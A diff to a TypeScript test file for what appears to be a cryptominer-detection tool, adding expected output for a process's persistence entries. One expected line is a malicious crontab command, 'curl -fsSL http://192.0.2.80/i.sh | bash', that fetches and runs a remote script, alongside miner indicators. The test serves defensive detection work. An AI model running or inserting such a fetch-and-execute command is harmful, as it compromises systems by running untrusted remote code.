@@ -1,5 +1,6 @@
 import { describe, expect, test } from 'bun:test';
 import type { ScanResult } from '../model/result.ts';
+import { graveEntries } from './entries.fixture.ts';
 import { type ProcessDetail, renderProcess } from './process-detail.ts';
 import { renderProcessTree } from './process-tree.ts';
 import { cleanResult, hostileResult, miningResult } from './result.fixture.ts';
@@ -92,7 +93,13 @@ function detailOf(result: ScanResult): ProcessDetail {
     children: [],
     namespaces: { mnt: 4026531841, uts: 4026531838 },
     limits: { lockedMemory: Number.POSITIVE_INFINITY, openFiles: 1024 },
-    persistence: ['restart policy always'],
+    persistence: [
+      ...graveEntries.slice(0, 1).map((entry) => ({ entry, by: 'program' as const })),
+      ...graveEntries
+        .slice(1)
+        .map((entry) => ({ entry, by: 'unit' as const, ancestor: { pid: 4700, name: 'sh' } })),
+    ],
+    restartPolicy: 'always',
     findings: result.findings.filter((finding) => finding.pid === row.pid),
     environmentNames: ['HOME', 'LD_PRELOAD'],
     at: result.finished,
@@ -121,7 +128,12 @@ describe('demine ps PID', () => {
       '/tmp/.X11-unix/.rsync/c/cfg (deleted)',
       '61 mappings, 2.3 GiB resident, 4 writable and executable',
       'RandomX dataset and cache',
-      'restart policy always',
+      'restart policy of its container: always',
+      "malicious  user's crontab  /var/spool/cron/crontabs/www-data:3",
+      'starts its program',
+      '      curl -fsSL http://192.0.2.80/i.sh | bash',
+      'is its unit · of its parent 4700 sh',
+
       'HOME LD_PRELOAD',
       'Children  none',
     ]) {
